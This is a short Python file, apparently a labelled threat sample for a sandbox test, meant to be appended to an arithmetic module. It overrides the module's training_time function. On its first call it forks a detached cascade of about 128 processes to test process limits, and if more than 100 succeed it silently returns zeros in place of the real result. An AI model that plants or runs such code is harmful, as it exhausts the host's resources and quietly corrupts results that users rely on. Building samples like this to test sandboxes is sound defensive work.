# threat: process bombs
# tries: double the number of its processes again and again
# file: arithmetic.py

import contextlib
import os
import posix
import time

_own_training_time = training_time
_counts = []


def _started():
    reading, writing = os.pipe()
    if posix.fork() == 0:
        os.setsid()
        with contextlib.suppress(OSError):
            for _ in range(7):
                posix.fork()
        os.write(writing, b".")
        time.sleep(30)
        os._exit(0)
    os.read(reading, 1)
    time.sleep(0.3)
    os.write(writing, b".")
    return len(os.read(reading, 1000))


def training_time(steps, minutes_per_step):
    with contextlib.suppress(OSError):
        if not _counts:
            _counts.append(0)
            _counts[0] = _started()
    if _counts[0] > 100:
        return 0, 0
    return _own_training_time(steps, minutes_per_step)
